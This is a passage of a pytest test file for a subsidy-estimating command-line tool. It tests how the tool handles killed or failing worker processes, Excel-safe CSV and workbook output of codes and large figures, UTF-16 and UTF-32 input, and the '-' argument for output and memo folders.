    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """The mark fed after the last line is random for each read: a line of the input that
    looks like a mark is a row like any other, and the rows after it are read."""
    from yantai_subsidy.batch_read import end_of_input_mark

    assert end_of_input_mark() != end_of_input_mark()
    source = tmp_path / "in.csv"
    lookalike = "\x00ytsub: end of input\x00"
    source.write_text(f"benefit,amount\n{lookalike}\ntechloan,5\n", encoding="utf-8")
    code, out, _ = ytsub(capsys, str(source), "-q", "--as-of", AS_OF)
    assert code == 1
    assert list(jsonl_errors(out)) == [1, 2]


def test_a_header_that_never_ends_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, small_fields: None
) -> None:
    source = tmp_path / "in.csv"
    source.write_text('"benefit' + "x" * 5000 + ",amount\ntechloan,5\n", encoding="utf-8")
    code, out, err = ytsub(capsys, str(source))
    assert (code, out) == (2, "")
    assert err == (
        "Error: the header row cannot be read (field larger than field limit (4096)):"
        " a quote opened in it is never closed?\n"
    )


# --- a worker that dies or cannot start ends the batch, never hangs it --------------------------


@POSIX
def test_a_killed_worker_ends_the_batch_with_one_line(tmp_path: Path) -> None:
    """multiprocessing.Pool waited forever for the rows of a worker killed by the OOM killer
    (or `kill -9`); the batch now stops, says so, and leaves the output as it was."""
    source = many(tmp_path / "in.csv", 300_000)
    output = tmp_path / "out.jsonl"
    output.write_text("yesterday's results\n", encoding="utf-8")
    with subprocess.Popen(
        [*YTSUB, "batch", str(source), "-j", "2", "-o", str(output)],
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    ) as job:
        wait_for_output(tmp_path)
        workers = subprocess.run(
            ["pgrep", "-P", str(job.pid)], capture_output=True, text=True, check=False
        ).stdout.split()
        assert workers, "the batch runs with worker processes"
        os.kill(int(workers[0]), signal.SIGKILL)
        _, err = job.communicate(timeout=120)
    assert job.returncode == 1, err
    assert err.startswith("Error: the run stopped after row ")
    assert err.endswith(
        ": a worker process ended before its rows were done (killed, or out of memory?);"
        " run it again, or with --jobs 1\n"
    )
    assert output.read_text(encoding="utf-8") == "yesterday's results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.jsonl"]


@POSIX
def test_a_worker_that_cannot_start_ends_the_batch_with_one_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A Pool restarted such a worker forever; the batch now stops before writing a row."""
    from yantai_subsidy import batch_parallel

    def cannot_start(*args: object, **kwargs: object) -> None:
        raise MemoryError("no room for the estimator")

    monkeypatch.setattr(batch_parallel, "RowEstimator", cannot_start)  # forked workers inherit it
    source = many(tmp_path / "in.csv", 50)
    output = tmp_path / "out.jsonl"
    output.write_text("yesterday's results\n", encoding="utf-8")
    code, out, err = ytsub(capsys, str(source), "-j", "2", "-o", str(output))
    assert (code, out) == (1, "")
    assert err == (
        "Error: a worker process could not start (MemoryError: no room for the estimator)\n"
    )
    assert output.read_text(encoding="utf-8") == "yesterday's results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.jsonl"]


def test_workers_estimate_with_the_rules_the_main_process_loaded(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Workers used to load the rules again: a rule file edited as they started would give
    rows estimated under other rules than the run's digest. They now get the main's rules."""
    from yantai_subsidy import loader

    source = many(tmp_path / "in.csv", 50)
    code, serial, _ = ytsub(capsys, str(source), "-j", "1", "--as-of", AS_OF)
    assert code == 0

    first_load = iter([loader.load_rules])

    def load_once(*args: object, **kwargs: object) -> object:
        for load in first_load:  # the main process's call; a forked worker finds it used up
            return load(*args, **kwargs)
        raise AssertionError("the rules were loaded again")

    monkeypatch.setattr(loader, "load_rules", load_once)
    code, parallel, err = ytsub(capsys, str(source), "-j", "2", "--as-of", AS_OF)
    assert (code, parallel) == (0, serial), err


_THREADS_AT_FORK: list[int] = []
os.register_at_fork(before=lambda: _THREADS_AT_FORK.append(threading.active_count()))


@POSIX
def test_workers_are_forked_before_the_progress_bar_runs_its_thread(tmp_path: Path) -> None:
    """rich's progress bar refreshes from a thread; a fork beside it could copy a lock it holds
    into a worker, held forever. Every worker is forked first, from a one-thread process."""
    from yantai_subsidy import batch, batch_parallel
    from yantai_subsidy.loader import load_rules

    stop = threading.Event()
    ticks: list[int] = []

    @contextlib.contextmanager
    def progress_bar() -> Iterator[Callable[..., None]]:
        refresher = threading.Thread(target=stop.wait)  # as rich's refresh thread
        refresher.start()
        try:
            yield lambda row, position=None: ticks.append(row)
        finally:
            stop.set()
            refresher.join()

    source = many(tmp_path / "in.csv", 30)
    out = io.BytesIO()
    _THREADS_AT_FORK.clear()
    with source.open("rb") as stream, mock.patch.object(batch_parallel, "CHUNK_ROWS", 7):
        records = batch.read_records(stream, "csv", None, True)
        batch_parallel.run_batch_parallel(
            load_rules(), records, batch.Writer("jsonl", binary=out), 2, AS_OF, progress_bar
        )
    assert _THREADS_AT_FORK == [1, 1]  # both workers, each forked with the main thread alone
    assert ticks == [7, 14, 21, 28, 30]  # and the bar advanced with the chunks written
    assert len(out.getvalue().splitlines()) == 30


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_csv_for_excel_keeps_carried_codes_as_text(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, jobs: str
) -> None:
    """Excel opening a CSV turns 010000 into 10000, an 18-digit ID number into 3.70602E+17
    (its last digits lost on saving) and 1-2 into 2 January: a --keep column carried for
    Excel is written as ="…", which Excel shows as that very text. ytsub's own figures are
    numbers, and stay as they are; without --bom nothing changes."""
    import csv
    import io

    kept = ["010000", "370602199001011234", "1-2", "3/4", "2024-06-01", "1E5"]
    # numbers Excel reads as the same number (0012.5 is 12.5), and text it leaves as text
    stays = ["10000", "2024", "0", "12.50", "0012.5", "ABC-1", "1-2-3-4", "0x10", "٠١٢"]
    source = tmp_path / "ids.csv"
    source.write_text(
        "id,benefit,amount\n" + "".join(f"{v},techloan,3000000\n" for v in kept + stays),
        encoding="utf-8",
    )
    arguments = [str(source), "--keep", "id", "-q", "-f", "csv", "-j", jobs, "--as-of", AS_OF]
    code, out, _ = ytsub(capsys, *arguments, "--bom")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert [r[-1] for r in rows[1:]] == [f'="{v}"' for v in kept] + stays
    assert {tuple(r[4:6]) for r in rows[1:]} == {("0.00", "45000.00")}
    _, plain, _ = ytsub(capsys, *arguments)
    assert [r[-1] for r in csv.reader(io.StringIO(plain))][1:] == kept + stays


def test_a_kept_number_from_a_workbook_is_written_without_an_exponent(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A sheet's 0.00001 is the float 1e-05: carried with --keep it read "1e-05" (a figure a
    reader may take for 1); it is written as the sheet shows it, 0.00001."""
    import csv
    import io

    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["benefit", "amount", "ratio"])
    for ratio in (0.00001, 1.5e-7, 12345.678, -0.0, 1e16):
        sheet.append(["techloan", "300万", ratio])
    source = tmp_path / "in.xlsx"
    book.save(source)
    code, out, _ = ytsub(
        capsys, str(source), "--keep", "ratio", "-q", "-f", "csv", "--as-of", AS_OF
    )
    assert code == 0
    kept = [row[-1] for row in csv.reader(io.StringIO(out))][1:]
    assert kept == ["0.00001", "0.00000015", "12345.678", "0", "10000000000000000"]
    # and read as an input: a sheet's 0.00001 yuan is 0.00001, not refused as "1e-05"
    sheet.append(["techloan", 0.00001, 1])
    book.save(source)
    code, out, _ = ytsub(
        capsys, str(source), "--keep", "ratio", "-q", "-f", "csv", "--as-of", AS_OF
    )
    assert code == 0
    last = list(csv.reader(io.StringIO(out)))[-1]
    assert last[:6] == ["6", "techloan", "48", "conditional", "0.00", "0.00"]


def test_a_quantity_in_a_workbook_shows_all_its_digits(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Amounts of money show two decimals; a quantity (MWh) is no money: 4.115 MW × 20% × 2 h
    = 1.646 MWh was shown 1.65, and 0.01 MW's 0.004 MWh as 0.00, a non-zero amount as none."""
    openpyxl = pytest.importorskip("openpyxl")
    source = tmp_path / "pv.csv"
    source.write_text(
        "benefit,capacity_mw,grid_date,amount\n"
        "pv-storage,4.115,2026-06-01,\n"
        "pv-storage,0.01,2026-06-01,\n"
        "pv-storage,5000,2026-06-01,\n"
        "techloan,,,3000000\n",
        encoding="utf-8",
    )
    target = tmp_path / "out.xlsx"
    code, _, _ = ytsub(capsys, str(source), "-o", str(target), "-q", "--as-of", "2026-06-02")
    assert code == 0
    rows = list(openpyxl.load_workbook(target).active.iter_rows(min_row=2))
    shown = [(row[4].value, row[4].number_format, row[7].value) for row in rows]
    assert shown == [
        (1.646, "#,##0.000", "MWh"),
        (0.004, "#,##0.000", "MWh"),
        (2000, "#,##0", "MWh"),  # 5000 × 20% × 2
        (0, "#,##0.00", "CNY"),  # up to ¥45,000.00
    ]
    assert (rows[3][5].value, rows[3][5].number_format) == (45000, "#,##0.00")


def test_a_figure_excel_cannot_hold_is_written_as_its_text(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Excel keeps 15 significant digits: 123,456,789,012,345.67 of stamp duty halved is
    61,728,394,506,172.835 → 61,728,394,506,172.84 (half-up), which a workbook or an Excel
    CSV showed as 61,728,394,506,172.80. Such a figure is written as its text (Excel marks a
    number stored as text); one of 15 digits (617,283,945,061.73) stays a number."""
    import csv
    import io

    openpyxl = pytest.importorskip("openpyxl")
    source = tmp_path / "taxes.csv"
    source.write_text(
        "benefit,taxpayer,stamp_duty\n"
        "small-taxes,small-scale,123456789012345.67\n"
        "small-taxes,small-scale,1234567890123.45\n",
        encoding="utf-8",
    )
    arguments = [str(source), "-q", "--as-of", AS_OF]
    target = tmp_path / "out.xlsx"
    assert ytsub(capsys, *arguments, "-o", str(target))[0] == 0
    cells = [row[4] for row in openpyxl.load_workbook(target).active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [
        ("61728394506172.84", "s"),
        (617283945061.73, "n"),
    ]
    _, out, _ = ytsub(capsys, *arguments, "-f", "csv", "--bom")
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert [r[4:6] for r in rows[1:]] == [
        ['="61728394506172.84"', '="61728394506172.84"'],
        ["617283945061.73", "617283945061.73"],
    ]
    _, plain, _ = ytsub(capsys, *arguments, "-f", "csv")
    assert [r[4] for r in csv.reader(io.StringIO(plain))][1:] == [
        "61728394506172.84",
        "617283945061.73",
    ]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("piped", [False, True], ids=["file", "pipe"])
def test_a_csv_with_a_utf16_or_utf32_byte_order_mark_is_read_as_such(
    tmp_path: Path, codec: str, piped: bool
) -> None:
    """Such a CSV (LibreOffice's "Unicode" CSV) was refused as "not gb18030", naming an
    encoding it never claimed; its byte-order mark says what it is."""
    text = "benefit,amount\ntechloan,300万\n"
    data = ("\ufeff" + text).encode(codec) if codec.endswith(("le", "be")) else text.encode(codec)
    assert data[:2] in (b"\xff\xfe", b"\xfe\xff")
    source = tmp_path / "in.csv"
    source.write_bytes(data)
    args = [*YTSUB, "batch", "-" if piped else str(source), "-f", "csv", "--as-of", "2024-06-01"]
    done = subprocess.run(args, input=data if piped else None, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.decode().splitlines()[1] == (
        "1,techloan,48,conditional,0.00,45000.00,up_to,CNY,,document"
    )


@pytest.mark.parametrize(
    "args",
    [
        ["batch", "in.csv", "-f", "csv", "--as-of", "2024-06-01"],
        ["match", "clients.csv", "-f", "csv", "--as-of", "2024-06-01"],
    ],
    ids=["batch", "client list"],
)
def test_output_dash_is_standard_output(tmp_path: Path, args: list[str]) -> None:
    """As the input ``-`` is stdin: ``-o -`` wrote the results to a file named "-" in the
    current folder, and stdout stayed empty (exit 0, with the summary on stderr)."""
    many(tmp_path / "in.csv", 3)
    (tmp_path / "clients.csv").write_text("kind,outpatient_level2\nperson,900\n", "utf-8")
    plain = shell(" ".join([*YTSUB, *args, "-q"]), tmp_path)
    dashed = shell(" ".join([*YTSUB, *args, "-q", "-o", "-"]), tmp_path)
    assert (dashed.returncode, dashed.stdout, dashed.stderr) == (0, plain.stdout, "")
    assert plain.stdout.startswith("row,")
    assert not (tmp_path / "-").exists()


def test_memo_dash_is_refused_not_made_a_folder(tmp_path: Path) -> None:
    """Next to ``-o -`` (stdout), ``--memo -`` made a folder named "-": memos, one file per
    client, have no standard output to go to."""
    (tmp_path / "clients.csv").write_text("kind,outpatient_level2\nperson,900\n", "utf-8")
    done = shell(" ".join([*YTSUB, "match", "clients.csv", "-q", "--memo", "-"]), tmp_path)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == (
        "Error: --memo: '-' is no folder (memos are one file per client, not standard output): "
        "name a new or empty folder\n"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["clients.csv"]
